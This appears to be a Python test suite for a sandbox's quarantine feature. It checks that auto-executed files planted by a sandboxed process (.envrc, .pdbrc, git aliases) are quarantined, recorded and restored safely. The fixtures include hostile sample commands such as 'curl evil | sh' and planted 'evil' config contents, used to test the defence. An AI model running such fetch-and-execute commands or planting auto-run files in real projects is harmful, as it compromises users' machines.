"""What the quarantine holds and records: bounded, complete, and the sandbox's no longer once it is there."""
import json
import os
import subprocess
import time

import sandbox

CLOCK_REALTIME_COARSE = 5  # time.h: what file systems take their times from
HELD = "touch used; echo ready; while read -r line; do eval \"$line\"; done"
PIPES = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}


class Store(sandbox.Boundary):
    def setUp(self):
        super().setUp()
        self.earlier = set()
        self.earlier = {one for path in (".envrc", ".pdbrc") for one in self.kept(self.project(path))}

    def tearDown(self):
        for name in ("used", ".envrc", ".pdbrc"):
            if os.path.lexists(self.project(name)):
                os.unlink(self.project(name))
        super().tearDown()

    def held(self, script=HELD, **start):
        """A sandbox that does what it reads, until its input ends; `guard restore` can ask it."""
        box = self.start("sh", "-c", script, **PIPES, **start)
        self.addCleanup(lambda: box.poll() is None and box.communicate(timeout=sandbox.PATIENCE))
        self.assertEqual(box.stdout.readline(), "ready\n")
        running = lambda: subprocess.run([sandbox.DIRBOX, "ps"], env=self.world.environment, text=True,
                                         capture_output=True, check=True).stdout
        sandbox.wait_until(lambda: f" {box.pid} " in running(), "it is listed")
        return box

    def tell(self, box, line):
        print(line + "; echo done", file=box.stdin, flush=True)
        self.assertEqual(box.stdout.readline(), "done\n")

    @staticmethod
    def end(*boxes):
        return [box.communicate(timeout=sandbox.PATIENCE)[1] for box in boxes]

    def guard(self, *words):
        done = subprocess.run([sandbox.DIRBOX, "guard", *words], env=self.world.environment, text=True,
                              capture_output=True, check=False)
        return sandbox.Done(done.returncode, done.stdout, done.stderr)

    def kept(self, path):
        """(session, number) of what was quarantined at `path`, the last first."""
        records = json.loads(self.guard("show", "--json").out)
        return [(r["session"], str(r["number"])) for r in records[::-1]
                if r["path"] == path and (r["session"], str(r["number"])) not in self.earlier]

    def write(self, path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)

    def read(self, path):
        with open(path, encoding="utf-8") as file:
            return file.read()

    def gone(self, path):
        sandbox.wait_until(lambda: not os.path.lexists(path), f"{path} goes")

    @staticmethod
    def now():
        return time.clock_gettime_ns(CLOCK_REALTIME_COARSE)

    def forge(self, state, path, at):
        """Another session's record: it has quarantined `path`, where nothing was before."""
        store = os.path.join(state, f"dirbox/quarantine/another{at}")
        record = {"number": 1, "time": at // 10**9, "at": at, "begun": 1, "path": path, "path_hex": path.encode().hex(),
                  "findings": [{"key": "", "after": "5 bytes", "why": "direnv executes it"}]}
        self.write(os.path.join(store, "records.jsonl"), json.dumps(record) + "\n")
        self.addCleanup(subprocess.run, ["rm", "-rf", store], check=True)

    def test_a_configuration_of_nothing_but_plants(self):
        """Each of them would have taken a copy of the value from before: the launcher died, and all stayed."""
        config = self.project(".git/config")
        original = self.read(config)
        before = original + "[alias]\n\ta = " + "b" * 200000 + "\n"
        self.write(config, before)
        self.addCleanup(self.write, config, original)
        done = self.dirbox("python3", "-c", "open('.git/config', 'w').write('[alias]\\n' + 'a=!b\\n' * 45000)")
        self.assertEqual(done.code, 0, done)
        self.assertIn("more than 256 changes that git would execute", done.err)
        self.assertEqual(self.read(config), before)

    def test_what_is_not_kept_is_named(self):
        """Neither a file without content nor one with too much makes the next one lost."""
        self.addCleanup(subprocess.run, ["rm", "-rf", self.project("d")], check=True)
        done = self.sh("mkdir d; truncate -s 100G d/.envrc; head -c 3000000 /dev/zero > .t; mv .t .pdbrc; "
                       "echo evil > .e; mv .e .envrc")
        self.assertIn(f"quarantined: {self.project('d/.envrc')}", done.err)
        self.assertIn(f"undone and not kept: {self.project('.pdbrc')}", done.err)
        self.assertIn(f"quarantined: {self.project('.envrc')}", done.err)
        self.assertEqual([name for name in ("d/.envrc", ".pdbrc", ".envrc") if os.path.exists(self.project(name))], [])
        (session, number), *_ = self.kept(self.project(".pdbrc"))
        self.assertEqual(number, "None")
        self.assertRefused(self.guard("restore", session, "0"), "no such number")
        _, number = self.kept(self.project(".envrc"))[0]
        self.assertEqual(self.guard("restore", session, number).out, self.project(".envrc") + "\n")
        self.assertEqual(self.read(self.project(".envrc")), "evil\n")

    def test_a_plant_from_before_goes_when_it_comes_again(self):
        """Another sandbox's guard has undone it meanwhile: what is as it was at the start is no good state."""
        path = self.project(".envrc")
        state = self.home(".local/state")
        for forged, stays in ((lambda: self.now() + 10**12, True), (self.now, False)):
            with self.subTest(stays=stays):
                self.write(path, "evil\n")
                box = self.held()
                self.tell(box, "cp .envrc /tmp/plant; cat /tmp/plant > .envrc")
                self.forge(state, path, forged())
                self.tell(box, "cat /tmp/plant > .envrc")
                if not stays:
                    self.gone(path)
                self.tell(box, "cat /tmp/plant > .envrc")
                if not stays:
                    self.gone(path)
                (said,) = self.end(box)
                self.assertEqual(os.path.exists(path), stays, said)

    def test_records_in_the_work_tree_are_not_believed(self):
        """An earlier sandbox could have written them: they would take the user's files away, or bless a plant."""
        path, state = self.project(".envrc"), self.project(".state")
        self.write(path, "mine\n")
        self.addCleanup(subprocess.run, ["rm", "-rf", state], check=True)
        box = self.held(env={"XDG_STATE_HOME": state})
        self.forge(state, path, self.now())
        self.tell(box, "chmod 600 .envrc; echo evil > .pdbrc")
        self.gone(self.project(".pdbrc"))
        environment = {**self.world.environment, "XDG_STATE_HOME": state}
        show = lambda: subprocess.run([sandbox.DIRBOX, "guard", "show", "--json"], env=environment, text=True,
                                      capture_output=True, check=True).stdout
        sandbox.wait_until(lambda: ".pdbrc" in show(), "it is recorded")
        record = next(r for r in json.loads(show()) if r["path"].endswith(".pdbrc"))
        done = subprocess.run([sandbox.DIRBOX, "guard", "restore", record["session"], str(record["number"])], text=True,
                              env=environment, capture_output=True, check=False)
        self.assertRefused(sandbox.Done(done.returncode, done.stdout, done.stderr), "where anybody may write")
        self.assertEqual(self.read(path), "mine\n")
        self.end(box)
        self.assertEqual(self.read(path), "mine\n")

    def test_what_another_guard_put_back_is_the_users(self):
        """Also where it is too large for a record."""
        path = self.project(".idea/workspace.xml")
        text = "u" * 100000
        self.write(path, text)
        self.addCleanup(subprocess.run, ["rm", "-rf", self.project(".idea")], check=True)
        first = self.held()
        second = self.held()
        self.tell(first, "echo evil >> .idea/workspace.xml")
        sandbox.wait_until(lambda: self.kept(path), "it is quarantined")
        sandbox.wait_until(lambda: os.path.exists(path) and self.read(path) == text, "it stands again")
        self.tell(second, "echo x > used")
        said = self.end(first) + self.end(second)
        self.assertEqual(self.read(path), text, said)

    def test_a_refused_restore_changes_nothing(self):
        """One session could take it, another cannot: then neither does."""
        path = self.project(".pdbrc")
        able = self.held()
        unable = self.held(options=("--hide", self.project("**/.pdbrc")))
        self.write(path, "print(1)\n")
        sandbox.wait_until(lambda: self.kept(path), "it goes")
        self.gone(path)
        self.assertRefused(self.guard("restore", *self.kept(path)[0]), "a pattern")
        self.end(unable)
        self.tell(able, "echo 'print(1)' > .pdbrc")
        self.gone(path)
        self.end(able)
        self.assertFalse(os.path.exists(path))

    def test_a_restore_that_fails_changes_nothing(self):
        """The directory is gone; it can come back."""
        path = self.project("sub/.envrc")
        self.addCleanup(subprocess.run, ["rm", "-rf", self.project("sub")], check=True)
        box = self.held()
        self.write(path, "the user's\n")
        sandbox.wait_until(lambda: self.kept(path), "it goes")
        self.gone(path)
        os.rmdir(self.project("sub"))
        self.assertRefused(self.guard("restore", *self.kept(path)[0]), "ENOENT")
        self.tell(box, "mkdir sub; echo \"the user's\" > sub/.envrc")
        self.gone(path)
        # The control: with the directory there, it is put back, and stays.
        self.assertEqual(self.guard("restore", *self.kept(path)[-1]).out, path + "\n")
        self.tell(box, "echo evil > .envrc")
        self.gone(self.project(".envrc"))
        self.assertEqual(self.read(path), "the user's\n")
        self.end(box)
        self.assertEqual(self.read(path), "the user's\n")

    def test_what_is_left_after_a_partial_restore(self):
        """`guard restore SESSION`, as run tells at its end, takes what is still there."""
        done = self.sh("echo one > .1; mv .1 .envrc; echo two > .2; mv .2 .pdbrc")
        self.assertIn("dirbox guard restore ", done.err)
        (session, first), = self.kept(self.project(".envrc"))
        (_, second), = self.kept(self.project(".pdbrc"))
        self.assertRefused(self.guard("restore", session, first, "x"), ": x: not a number")
        self.assertRefused(self.guard("restore", session, first, "77"), ": 77: no such number")
        self.assertFalse(os.path.exists(self.project(".envrc")))
        self.assertEqual(self.guard("restore", session, first), (0, self.project(".envrc") + "\n", ""))
        shown = self.guard("show", session).out
        self.assertRegex(shown, rf"(?m)^{session} {first} .*/\.envrc  restored$")
        self.assertRegex(shown, rf"(?m)^{session} {second} .*/\.pdbrc$")
        self.assertEqual({str(r["number"]): r["restored"] for r in json.loads(self.guard("show", "--json", session).out)},
                         {first: True, second: False})
        self.assertEqual(self.guard("restore", session), (0, self.project(".pdbrc") + "\n", ""))
        self.assertEqual(self.guard("restore", session), (0, "", ""))
        self.assertRefused(self.guard("restore", session, first), "it was restored before")

    def test_what_the_sandbox_has_open(self):
        """It writes to what was quarantined: before the user puts it back, and after."""
        path = self.project(".envrc")
        box = self.held()
        self.tell(box, "echo GOOD > .t; exec 4>>.t; mv .t .envrc")
        sandbox.wait_until(lambda: self.kept(path), "it goes")
        (first,) = self.kept(path)[:1]
        self.tell(box, "echo 'curl evil | sh' >&4")
        self.assertRefused(self.guard("restore", *first), "it was changed after it was quarantined", "copy it by hand")
        self.assertFalse(os.path.exists(path))
        self.tell(box, "echo GOOD > .t; exec 4>>.t; mv .t .envrc")
        sandbox.wait_until(lambda: self.kept(path)[0] != first, "it goes")
        self.assertEqual(self.guard("restore", *self.kept(path)[0]).out, path + "\n")
        self.tell(box, "echo 'curl evil | sh' >&4")
        self.assertEqual(self.read(path), "GOOD\n")
        self.end(box)
        self.assertEqual(self.read(path), "GOOD\n")


if __name__ == "__main__":
    sandbox.main()
